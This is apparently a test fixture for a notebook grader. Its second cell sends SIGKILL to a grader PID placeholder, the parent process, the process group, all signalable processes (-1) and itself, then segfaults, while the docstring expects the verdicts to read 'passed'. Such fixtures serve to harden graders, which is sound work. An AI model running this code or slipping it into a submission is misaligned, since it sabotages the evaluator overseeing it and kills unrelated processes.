"""Kills its parents, its group and itself while the notebook runs.

verdict = ["passed", "passed", "passed"]
"""

# %%
import os, signal
def double(x):
    return 2 * x
# %%
for pid in (int("@GRADER@"), os.getppid(), -1, 0, os.getpid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGSEGV)
